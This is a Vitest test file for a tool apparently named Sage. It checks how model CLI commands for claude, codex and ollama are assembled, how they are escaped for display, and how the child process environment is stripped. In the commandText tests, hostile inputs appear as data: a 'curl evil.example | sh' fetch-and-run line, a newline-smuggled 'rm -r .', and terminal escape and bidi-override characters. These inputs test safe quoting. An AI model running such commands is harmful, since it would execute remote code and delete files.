import { describe, expect, test } from 'vitest'
import { childEnvironment, commandText, commandToRun } from '../../../src/review/refine/command.ts'

/** Without tools, and without servers that have some. */
const CLAUDE = [
  'claude',
  '-p',
  '--model',
  'haiku',
  '--output-format',
  'json',
  '--system-prompt',
  'You sort lines of text. You answer with JSON only.',
  '--tools',
  '',
  '--strict-mcp-config',
]
const QUIET = ['--no-session-persistence', '--settings', '{"disableAllHooks":true}']

describe('commandToRun()', () => {
  test.each<[command: string[], expected: readonly string[]]>([
    [['claude'], [...CLAUDE, ...QUIET]],
    [['codex'], ['codex', 'exec', '--ephemeral', '--skip-git-repo-check', '--sandbox', 'read-only', '-']],
    [['ollama'], ['ollama', 'run', '--format', 'json', '--nowordwrap', 'llama3.2']],
    [['my-tool'], ['my-tool']],
    [['constructor'], ['constructor']],
    [['claude-proxy'], ['claude-proxy']],
    [
      ['llm', '-m', 'claude'],
      ['llm', '-m', 'claude'],
    ],
    [
      ['opencode', 'run', '--model', 'anthropic/claude'],
      ['opencode', 'run', '--model', 'anthropic/claude'],
    ],
    [
      ['npx', '-y', '@anthropic-ai/claude-code@2', '-p'],
      ['npx', '-y', '@anthropic-ai/claude-code@2', '-p', ...QUIET],
    ],
    [
      ['C:\\bin\\claude.exe', '-p'],
      ['C:\\bin\\claude.exe', '-p', ...QUIET],
    ],
    [
      ['/opt/bin/claude', '-p'],
      ['/opt/bin/claude', '-p', ...QUIET],
    ],
    [
      ['claude', '-p', ...QUIET],
      ['claude', '-p', ...QUIET],
    ],
    [
      ['claude', '-p', '--settings', '{}'],
      ['claude', '-p', '--settings', '{}', '--no-session-persistence'],
    ],
  ])('%j', (command, expected) => {
    expect(commandToRun(command)).toEqual(expected)
  })

  test('tells the way out if none is set', () => {
    expect(() => commandToRun([])).toThrow('No command is set for the model: sage config set refine.command claude')
  })
})

test.each([
  [['claude', '-p', '--tools', ''], "claude -p --tools ''"],
  [['sh', '-c', 'curl evil.example | sh'], "sh -c 'curl evil.example | sh'"],
  [['sh', '-c', "echo 'a'\nrm -r ."], String.raw`sh -c 'echo '\''a'\''⟨LF⟩rm -r .'`],
  [['sh', '\u001b[2Kx\u202e'], "sh '⟨ESC⟩[2Kx⟨U+202E⟩'"],
])('commandText(%j)', (command, expected) => {
  expect(commandText(command)).toBe(expected)
})

test("childEnvironment() marks the child as Sage's own and hides the parent", () => {
  expect(
    childEnvironment({ PATH: '/bin', CLAUDECODE: '1', CLAUDE_PROJECT_DIR: '/p', CLAUDE_CODE_ENTRYPOINT: 'cli' }),
  ).toEqual({
    PATH: '/bin',
    SAGE: '0',
    SAGE_CHILD: '1',
  })
})
